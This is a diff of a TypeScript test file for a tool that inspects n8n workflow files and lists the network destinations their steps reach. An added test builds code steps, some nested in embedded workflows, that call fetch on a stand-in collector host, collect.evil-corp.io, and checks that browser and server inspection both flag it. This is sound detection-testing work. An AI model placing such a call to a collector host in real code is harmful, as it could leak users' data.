@@ -3,14 +3,16 @@ import facts from '../../../src/workflow/rules/facts/nodes.ts?raw'
 import { addressOfParameter } from '../../../src/workflow/rules/destinations/address.ts'
 import { isRead } from '../../../src/workflow/rules/destinations/node-reach.ts'
 import { nodeFacts } from '../../../src/workflow/rules/facts/lookup.ts'
+import { readCode } from '../../../src/workflow/rules/destinations/read-code.ts'
 import { inspectWorkflow } from '../../../src/workflow/rules/inspect.ts'
+import { inspected } from '../../../src/selling/template-form/workflow/inspected.ts'
 import { aFile, aNode, type Link, read } from './files.ts'
 
 const BASE = 'n8n-nodes-base'
 const AI = '@n8n/n8n-nodes-langchain'
 
 const reached = (nodes: object[], links: Link[] = []) =>
-  inspectWorkflow(read(aFile(nodes, links))).destinations.map(({ kind, name }) => `${kind} ${name}`.trim())
+  inspectWorkflow(read(aFile(nodes, links)), readCode).destinations.map(({ kind, name }) => `${kind} ${name}`.trim())
 const ofOne = (type: string, parameters: object) => reached([aNode('A', type, { parameters })])
 const request = (url: string, more: object = {}) => ofOne(`${BASE}.httpRequest`, { url, ...more })
 const code = (jsCode: string) => ofOne(`${BASE}.code`, { jsCode })
@@ -221,6 +223,20 @@ describe('Other steps', () => {
     ])
   })
 
+  const fetching = aNode('X', `${BASE}.code`, { parameters: { jsCode: 'fetch("https://collect.evil-corp.io")' } })
+  const bringing = (workflowJson: unknown) =>
+    aNode('A', `${BASE}.executeWorkflow`, { parameters: { source: 'parameter', workflowJson } })
+  test.each([
+    ['a step', fetching],
+    ['a workflow that is brought along', bringing(JSON.stringify(aFile([fetching])))],
+    ['a workflow within another', bringing(aFile([bringing(aFile([fetching]))]))],
+  ])('The browser reads the code of %s as the server does', async (_, node) => {
+    const file = read(aFile([node]))
+    const { check } = await inspected(file)
+    expect(check.destinations).toEqual(inspectWorkflow(file, readCode).namedDestinations)
+    expect(check.destinations).toMatchObject([{ kind: 'unknown', host: 'collect.evil-corp.io' }])
+  })
+
   test('A step without an app reaches that of its credential', () => {
     const credentials = { googleSheetsOAuth2Api: { id: '1', name: 'Google Sheets account' } }
     expect(reached([aNode('A', `${BASE}.evaluation`, { credentials })])).toEqual(['service Google Sheets'])
@@ -240,6 +256,7 @@ describe('Other steps', () => {
           aNode('Run', `${BASE}.code`, { parameters: { jsCode: 'fetch(x)' } }),
         ]),
       ),
+      readCode,
     )
     expect(destinations).toEqual([
       { kind: 'hidden', name: 'code', steps: [3] },
